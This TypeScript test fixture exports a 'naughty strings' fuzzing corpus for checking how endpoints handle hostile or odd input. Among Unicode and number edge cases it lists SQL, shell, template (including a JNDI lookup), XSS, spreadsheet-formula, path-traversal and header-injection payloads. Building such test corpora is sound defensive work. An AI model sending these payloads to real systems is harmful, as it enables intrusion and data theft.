// Texts that have broken programs, in the spirit of the Big List of Naughty Strings: what people paste, what attackers
// send, and what looks like something else. Data only.

const bidi = ['\u202eadmin\u202c', 'a\u2066b\u2069', '\u200fowner', '\u061cx'];
const invisible = ['\u200b', 'ad\u200bmin', 'a\u00adb', '\ufeffadmin', '\u2060', '\u180e', 'x\u{e0041}', '\u034f'];
const lookAlikes = [
  'аdmin',
  'ＡＤＭＩＮ',
  'ⓐdmin',
  'ﬁle',
  'ß',
  'İstanbul',
  'ı',
  'ſ',
  'K',
  'Å',
  'e\u0301',
  'é',
  '\u0301',
];
const controls = [
  '\u0001',
  '\u0007bell',
  '\b',
  '\t',
  '\n',
  '\r\n',
  'a\r\nb',
  '\u001b[31mred\u001b[0m',
  '\u007f',
  '\u0085',
];
const lines = [
  '\u2028',
  '\u2029',
  'a\u2028b',
  'x\r\nSet-Cookie: a=b',
  'x\nlevel=error msg=forged',
  '\u001b]0;title\u0007',
];
const emoji = ['😀', '👩‍👩‍👧‍👦', '🇩🇪', '❤️', '🏳️‍🌈', '👍🏽', '\u{1f9ff}'.repeat(20), '🅰🅱'];
const scripts = ['田中さん', 'مرحبا', 'שלום', 'Ω≈ç√∫', '𝒯𝑒𝓈𝓉', 'Ṱ̺̺o͞ ̷i̲̬n', 'ก็็็็็็็็็', '﷽', '\u{10ffff}', '\ufffe', '\ue000'];
const sql = [
  "'",
  "''",
  '"',
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '1; SELECT pg_sleep(5)--',
  "' UNION SELECT password_hash FROM users --",
  '%',
  '_',
  '\\',
  '%%%_%',
  "\\'",
  '$1',
  '?',
  ':id',
  '/* x */',
  "E'\\\\x'",
  '{"$gt":""}',
  "admin'--",
];
const commands = ['; ls', '| id', '`id`', '$(id)', '&& whoami', '\u0026', '> /x', '() { :;}; echo x'];
const formats = ['%s%s%s%n', '%d', '%00', '%0a', '{0}', '%p%p', '%x'.repeat(20), '%%', '$s'];
const templates = [
  '{{7*7}}',
  '\u0024{7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '\u0024{jndi:ldap://x/a}',
  '{% x %}',
  '{{constructor}}',
];
const markup = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '<!--',
  ']]>',
  '&lt;',
  '<?xml?>',
];
const table = ['=1+1', '+1', '-1+1', '@SUM(A1)', '=cmd|"/C calc"!A0', '"a","b"', 'a;b', 'a\tb'];
const paths = [
  '../../../etc/passwd',
  '..\\..\\x',
  '/etc/passwd',
  'C:\\x',
  '.',
  '..',
  '...',
  '~',
  'file:///x',
  '//x',
  '/dev/null',
  'CON',
  'nul.txt',
  './x',
  'a/../b',
];
const numbers = [
  '0',
  '-1',
  '1',
  '1.5',
  '-0',
  '00',
  '0x10',
  '1e3',
  '1e400',
  '-1e400',
  '2147483647',
  '2147483648',
  '9007199254740991',
  '9007199254740992',
  '9007199254740993',
  '99999999999999999999',
  '1_000',
  '١٢٣',
  '１',
  'NaN',
  'Infinity',
  '-Infinity',
  ' 1',
  '1 ',
  '+1',
];
const words = [
  '',
  ' ',
  '   ',
  'null',
  'undefined',
  'true',
  'false',
  'None',
  'nil',
  '[object Object]',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  'length',
  '__defineGetter__',
  'then',
  '[]',
  '{}',
  'owner',
  'admin',
  '*',
  '*:*',
  'read:*',
  'a:b:c',
  ':',
  'A',
];
const addresses = [
  'a@b',
  'owner@acme.example',
  'OWNER@ACME.EXAMPLE',
  ' a@b.example ',
  'a@b.example\r\nBcc: x@y',
  '"a b"@c.example',
  'a@[127.0.0.1]',
  'a@@b',
  'a@b..c',
  'ä@b.example',
  'a@ｂ.example',
  `${'a'.repeat(65)}@b.example`,
];
const tokens = [
  'kw_',
  `kw_${'0'.repeat(22)}_${'0'.repeat(36)}`,
  'AT1',
  'AT1====',
  'a.b.c',
  'eyJhbGciOiJub25lIn0.e30.',
  'Bearer x',
  'Basic ==',
  'x'.repeat(61),
];
const times = [
  '2030-01-31T12:00:00Z',
  '9999-12-31T23:59:59.999Z',
  '10000-01-01T00:00:00Z',
  '1970-01-01T00:00:00Z',
  '2030-02-30T00:00:00Z',
  '2030-01-01',
  '2016-12-31T23:59:60Z',
  '1e15',
  '2030-01-01T00:00:00+24:00',
];
const long = [
  'x'.repeat(65),
  'x'.repeat(129),
  'x'.repeat(1001),
  'ü'.repeat(128),
  '😀'.repeat(129),
  '\u0301'.repeat(500),
  'a'.repeat(10_000),
  'a b '.repeat(2000),
];

/** Well-formed Unicode without NUL: an endpoint may take any of them, or refuse it. */
export const naughtyStrings: readonly string[] = [
  ...[bidi, invisible, lookAlikes, controls, lines, emoji, scripts, sql, commands, formats, templates, markup, table],
  ...[paths, numbers, words, addresses, tokens, times, long],
].flat();

/** What no JSON text may hold (S76); each is written with escapes. */
export const brokenStrings: readonly string[] = [
  '\u0000',
  'a\u0000b',
  '\ud800',
  'a\udc00',
  '\udc00\ud800',
  '\udfff\u0000',
];
